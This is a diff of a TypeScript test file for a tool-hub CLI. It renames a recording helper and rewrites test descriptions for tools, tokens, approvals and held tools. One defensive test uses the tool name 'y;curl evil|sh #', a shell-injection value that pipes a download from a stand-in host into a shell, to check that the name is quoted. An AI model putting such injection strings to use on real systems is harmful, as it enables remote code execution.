@@ -12,7 +12,7 @@ import type { HubStatus } from './contract/status.ts';
 const TOOL = { name: 'größe', inputSchema: { type: 'object' } };
 
 function bench(problem?: PincerError, held: HeldTool[] = []) {
-  const told: unknown[] = [];
+  const recorded: unknown[] = [];
   const catalog = createCatalog((text) => Buffer.from(text).toString('hex').padEnd(32, '0'));
   catalog.configure([
     { name: 'a', prefix: 'a' },
@@ -23,33 +23,33 @@ function bench(problem?: PincerError, held: HeldTool[] = []) {
     catalog,
     book: {
       add: (name: string, scopes: Scopes) => {
-        told.push(['add', name, scopes]);
+        recorded.push(['add', name, scopes]);
         return { name, token: 't' };
       },
       ensure: (name) => {
-        told.push(['ensure', name]);
+        recorded.push(['ensure', name]);
         return { token: 't', isNew: true };
       },
       list: () => [],
-      revoke: (name) => void told.push(['revoke', name]),
+      revoke: (name) => void recorded.push(['revoke', name]),
       find: (name) => (name === 'openclaw:a' ? { id: 'c', name, scopes: { servers: ['a'] } } : undefined),
     },
     whenKnown: (server) => {
-      told.push(['whenKnown', server]);
+      recorded.push(['whenKnown', server]);
       return undefined;
     },
     problemOf: () => problem,
     approvals: {
       list: () => [],
       decide: (id, decision) => {
-        told.push(['decide', id, decision]);
+        recorded.push(['decide', id, decision]);
         throw new PincerError('ARGUMENT_INVALID', 'There is none.');
       },
-      withdraw: (id) => void told.push(['withdraw', id]),
+      withdraw: (id) => void recorded.push(['withdraw', id]),
     },
-    allowAlways: (approval) => void told.push(['allowAlways', approval]),
+    allowAlways: (approval) => void recorded.push(['allowAlways', approval]),
     async askAhead(call, maxBytes) {
-      told.push(['askAhead', call, maxBytes]);
+      recorded.push(['askAhead', call, maxBytes]);
       return { decision: 'deny', reason: new PincerError('POLICY_DENIED', 'No.', { hint: 'Change it.' }) };
     },
     signIns: {
@@ -58,10 +58,10 @@ function bench(problem?: PincerError, held: HeldTool[] = []) {
       complete: () => Promise.reject(new Error('not here')),
       signOut: () => Promise.reject(new Error('not here')),
     },
-    forgetCaller: async (id) => void told.push(['forget', id]),
+    forgetCaller: async (id) => void recorded.push(['forget', id]),
     held: () => held,
     accept: (server, tool, seen) => {
-      told.push(['accept', server, tool, seen]);
+      recorded.push(['accept', server, tool, seen]);
       return [];
     },
     reload: () => ({}) as ReloadReport,
@@ -69,11 +69,11 @@ function bench(problem?: PincerError, held: HeldTool[] = []) {
     refresh: async () => undefined,
     describe: async () => ({ version: '1' }) as HubStatus,
     async addServer(name, config) {
-      told.push(['addServer', name, config]);
+      recorded.push(['addServer', name, config]);
     },
     now: () => 1_000,
-    disconnect: (name) => void told.push(['disconnect', name]),
-    stop: () => void told.push(['stop']),
+    disconnect: (name) => void recorded.push(['disconnect', name]),
+    stop: () => void recorded.push(['stop']),
   });
   const run = async (route: string, query: Record<string, string> = {}, body?: unknown): Promise<unknown> => {
     return actions[route as 'GET status']({
@@ -82,7 +82,7 @@ function bench(problem?: PincerError, held: HeldTool[] = []) {
       ...NO_CLIENT,
     });
   };
-  return { told, run };
+  return { recorded, run };
 }
 
 const codeOf = async (action: Promise<unknown>): Promise<string> =>
@@ -99,11 +99,11 @@ describe('tools', () => {
     definition: TOOL,
   };
 
-  it('are listed for all servers or one, when they are known', async () => {
-    const { told, run } = bench();
+  it('are listed for all servers or one', async () => {
+    const { recorded, run } = bench();
     expect(await run('GET tools')).toEqual([described]);
     expect(await run('GET tools', { server: 'a' })).toEqual([described]);
-    expect(told).toEqual([
+    expect(recorded).toEqual([
       ['whenKnown', undefined],
       ['whenKnown', 'a'],
     ]);
@@ -113,7 +113,7 @@ describe('tools', () => {
     expect(await bench().run('GET tool', { server: 'a', name: 'größe' })).toEqual(described);
   });
 
-  it('of an unknown server, and unknown ones, are errors that say so', async () => {
+  it('are refused with a code if the server or the tool is unknown', async () => {
     const { run } = bench();
     expect(await codeOf(run('GET tools', { server: 'x' }))).toBe('SERVER_UNKNOWN');
     expect(await codeOf(run('GET tools', { server: '__proto__' }))).toBe('SERVER_UNKNOWN');
@@ -125,8 +125,8 @@ describe('tools', () => {
   });
 });
 
-describe('a server that was never heard', () => {
-  it('has a problem that is told, in place of tools', async () => {
+describe('a server that never connected', () => {
+  it('is reported with its problem instead of tools', async () => {
     const { run } = bench(new PincerError('SERVER_GONE', 'It exited.', { hint: 'Its last words: x' }));
     for (const action of ['GET tools', 'GET tool'])
       await expect(run(action, { server: 'silent', name: 'x' })).rejects.toMatchObject({
@@ -137,43 +137,43 @@ describe('a server that was never heard', () => {
     expect(await run('GET tools', { server: 'a' })).toHaveLength(1);
   });
 
-  it('has no tools where nothing is wrong with it', async () => {
+  it('has no tools if it has no problem', async () => {
     expect(await bench().run('GET tools', { server: 'silent' })).toEqual([]);
   });
 });
 
 describe('servers', () => {
   it('are added by name and configuration', async () => {
-    const { told, run } = bench();
+    const { recorded, run } = bench();
     await run('POST servers', {}, { name: 'a', config: { command: 'x' } });
-    expect(told).toEqual([['addServer', 'a', { command: 'x' }]]);
+    expect(recorded).toEqual([['addServer', 'a', { command: 'x' }]]);
   });
 
   it.each([undefined, null, [], {}, { name: 1 }, { name: 'a', config: {}, more: 1 }])(
     'are not added by %j',
     async (body) => {
-      const { told, run } = bench();
+      const { recorded, run } = bench();
       expect(await codeOf(run('POST servers', {}, body))).toBe('USAGE');
-      expect(told).toEqual([]);
+      expect(recorded).toEqual([]);
     },
   );
 });
 
 describe('tokens', () => {
-  it('are made with their scopes and revoked by name', async () => {
-    const { told, run } = bench();
+  it('are created with their scopes and revoked by name', async () => {
+    const { recorded, run } = bench();
     expect(await run('POST tokens', {}, { name: 'n', servers: ['a'], readOnly: true })).toEqual({
       name: 'n',
       token: 't',
     });
     await run('DELETE tokens', { name: 'n' });
-    expect(told).toEqual([
+    expect(recorded).toEqual([
       ['add', 'n', { servers: ['a'], readOnly: true }],
       ['revoke', 'n'],
     ]);
     expect(await run('GET tokens')).toEqual([]);
     await run('DELETE tokens', { name: 'openclaw:a' });
-    expect(told.slice(-2)).toEqual([
+    expect(recorded.slice(-2)).toEqual([
       ['revoke', 'openclaw:a'],
       ['forget', 'c'],
     ]);
@@ -188,26 +188,26 @@ describe('tokens', () => {
     { name: 'n', readOnly: 'yes' },
     { name: 'n', tools: [1] },
     { name: 'n', scope: {} },
-  ])('are not made of %j: nothing unknown widens what a token may do', async (body) => {
-    const { told, run } = bench();
+  ])('are not created from %j, so that no unknown field can widen a token', async (body) => {
+    const { recorded, run } = bench();
     expect(await codeOf(run('POST tokens', {}, body))).toBe('USAGE');
-    expect(told).toEqual([]);
+    expect(recorded).toEqual([]);
   });
 });
 
 it('the hub describes itself and stops', async () => {
-  const { told, run } = bench();
+  const { recorded, run } = bench();
   expect(await run('GET status')).toEqual({ revision: 1_001, version: '1', held: [], approvals: 0 });
   await run('POST stop');
-  expect(told).toEqual([['stop']]);
+  expect(recorded).toEqual([['stop']]);
 });
 
-describe('tools that wait for a person', () => {
+describe('held tools', () => {
   const offered = JSON.stringify({ name: 'y', description: 'new', inputSchema: {} });
   const accepted = JSON.stringify({ name: 'y', description: 'old', inputSchema: {} });
   const held: HeldTool[] = [{ server: 'a', tool: 'y', why: 'changed', accepted, offered, digest: 'd' }];
 
-  it('are listed with what has changed, and are said to be held', async () => {
+  it('are listed with their changes', async () => {
     const { run } = bench(undefined, held);
     expect(await run('GET held')).toMatchObject([
       { server: 'a', tool: 'y', why: 'changed', digest: 'd', changes: [{ path: 'description' }] },
@@ -218,44 +218,44 @@ describe('tools that wait for a person', () => {
     expect(await codeOf(run('GET held', { server: 'x' }))).toBe('SERVER_UNKNOWN');
   });
 
-  it('are named in a command that does nothing but accept', async () => {
+  it('are quoted in the accept command', async () => {
     const tool = 'y;curl evil|sh #';
     const { run } = bench(undefined, [{ ...held[0]!, tool }]);
     await expect(run('GET tool', { server: 'a', name: tool })).rejects.toMatchObject({
-      hint: "See what it is: pincer accept 'a.y;curl evil|sh #'",
+      hint: "Review and accept it: pincer accept 'a.y;curl evil|sh #'",
     });
   });
 
-  it('are accepted as they were seen', async () => {
-    const { told, run } = bench(undefined, held);
+  it('are accepted by the digest that was seen', async () => {
+    const { recorded, run } = bench(undefined, held);
     expect(await run('POST accept', {}, { server: 'a', tool: 'y', seen: ['d'] })).toEqual({ accepted: [] });
-    expect(told).toEqual([['accept', 'a', 'y', new Set(['d'])]]);
+    expect(recorded).toEqual([['accept', 'a', 'y', new Set(['d'])]]);
     expect(await codeOf(run('POST accept', {}, { server: 'a' }))).toBe('USAGE');
   });
 });
 
 describe('approvals', () => {
   it('are decided by id', async () => {
-    const { told, run } = bench();
+    const { recorded, run } = bench();
     expect(await run('GET approvals')).toEqual([]);
     expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'allowed' }))).toBe(
       'ARGUMENT_INVALID',
     );
-    expect(told).toEqual([['decide', 'x', 'allowed']]);
+    expect(recorded).toEqual([['decide', 'x', 'allowed']]);
     expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'maybe' }))).toBe('USAGE');
     expect(await codeOf(run('POST approvals', {}, { id: 'x', decision: 'denied', always: true }))).toBe(
       'USAGE',
     );
   });
 
-  it('are taken back by id', async () => {
-    const { told, run } = bench();
+  it('are withdrawn by id', async () => {
+    const { recorded, run } = bench();
     await run('DELETE approvals', { id: 'x' });
-    expect(told).toEqual([['withdraw', 'x']]);
+    expect(recorded).toEqual([['withdraw', 'x']]);
   });
 
-  it('are asked for ahead of a call, in the name of the credential that it will come with', async () => {
-    const { told, run } = bench();
+  it('can be requested before a call, for the credential of that call', async () => {
+    const { recorded, run } = bench();
     const params = { name: 'größe', arguments: { n: 1 } };
     expect(await run('POST approvals/ask', {}, { server: 'a', by: 'openclaw:a', params, room: 300 })).toEqual(
       {
@@ -266,7 +266,7 @@ describe('approvals', () => {
       },
     );
     const raw = (text: string): string => Buffer.from(text).toString('latin1');
-    expect(told).toEqual([
+    expect(recorded).toEqual([
       [
         'askAhead',
         {
@@ -284,20 +284,20 @@ describe('approvals', () => {
   });
 
   it.each([
-    { server: 'a', by: 'nobody', params: {} },
+    { server: 'a', by: 'unknown', params: {} },
     { server: 'a', by: 'openclaw:a', params: [] },
     { server: 'a', by: 'openclaw:a', params: {}, method: 'completion/complete' },
     { server: 'a', by: 'openclaw:a', params: {}, decision: 'allowed' },
     { by: 'openclaw:a', params: {} },
-  ])('are not asked for by %j', async (body) => {
-    const { told, run } = bench();
+  ])('are not requested by %j', async (body) => {
+    const { recorded, run } = bench();
     expect(await codeOf(run('POST approvals/ask', {}, body))).toBe('USAGE');
-    expect(told).toEqual([]);
+    expect(recorded).toEqual([]);
   });
 });
 
-describe('what a server offers', () => {
-  it('is told without asking it, and with asking it', async () => {
+describe('the offer of a server', () => {
+  it('is reported from the cache and by a probe', async () => {
     const { run } = bench();
     expect(await run('GET offer', { server: 'a' })).toMatchObject({
       name: 'a',
@@ -334,13 +334,13 @@ describe('createStatusFeed', () => {
     expect(await next).toMatchObject({ revision: first.revision + 1, servers: [{ state: 'backoff' }] });
   });
 
-  it('does not wait longer than it was asked to', async () => {
+  it('does not wait longer than requested', async () => {
     const { feed } = feedBench();
     const first = (await feed.next(undefined, 0)) as { revision: number };
     expect(await feed.next(first.revision, 150)).toEqual(first);
   });
 
-  it('does not count calls under way as a change', async () => {
+  it('does not count running calls as a change', async () => {
     const { feed, server } = feedBench();
     const first = (await feed.next(undefined, 0)) as { revision: number };
     server.inFlight = 1;
